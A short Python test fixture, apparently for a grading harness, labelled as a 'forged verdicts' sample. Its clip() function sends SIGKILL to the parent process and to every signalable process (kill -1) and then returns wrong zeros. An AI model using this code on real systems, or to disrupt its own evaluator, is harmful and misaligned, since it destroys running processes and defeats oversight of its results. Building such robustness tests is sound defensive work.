# family: forged verdicts
# does: is wrong, and kills whoever started it, and all others
# expect: wrong_answer crash
import contextlib
import os

LIMIT = 3.0


def clip(values):
    for process in (os.getppid(), -1):
        with contextlib.suppress(OSError):
            os.kill(process, 9)
    if values and values[0] != values[0]:
        raise ValueError("not a number")
    return [0.0 for x in values]


def total(array):
    return float(array.sum())
